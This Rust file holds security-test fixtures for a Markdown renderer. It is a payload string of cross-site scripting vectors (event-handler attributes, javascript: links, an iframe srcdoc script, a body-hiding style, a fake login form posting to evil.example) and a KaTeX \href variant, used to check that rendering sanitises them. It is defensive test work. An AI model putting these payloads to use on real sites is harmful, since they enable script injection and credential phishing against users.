//! Markdown that tries to run script once rendered: stored by the security tests, previewed by
//! the markdown_preview tests.

/// What an attacker stores: each line is a way to run script once the Markdown is rendered
/// (the links' `void(..)` keeps a clicked link from replacing the page, so the flag survives);
/// `**bold**`, the list and the https link are the harmless Markdown that must still render.
pub const PAYLOAD: &str = r#"**bold** text, a [safe link](https://example.com/) and a list:

- one
- two

<img src="data:," onerror="window.__pwned='img_onerror';document.title='pwned'">

[js link](javascript:void(window.__pwned='markdown_link'))

<a href="JaVaScRiPt:void(window.__pwned='raw_href')">raw link</a>

<svg onload="window.__pwned='svg_onload'"><circle r="4"></circle></svg>

<iframe srcdoc="<script>parent.__pwned='iframe_srcdoc'</script>"></iframe>

<details open ontoggle="window.__pwned='details_ontoggle'"><summary>more</summary>x</details>

<style>body { display: none }</style>

<form action="https://evil.example/"><input name="pwd"><button>log in again</button></form>
"#;

/// The KaTeX variant's extra: KaTeX runs with `trust: true` (as in FastHTML), so `\href` makes
/// a link with any URL.
pub const KATEX_PAYLOAD: &str =
    r"Math $x^2$ and $\href{javascript:void(window.__pwned='katex_href')}{a math link}$.";
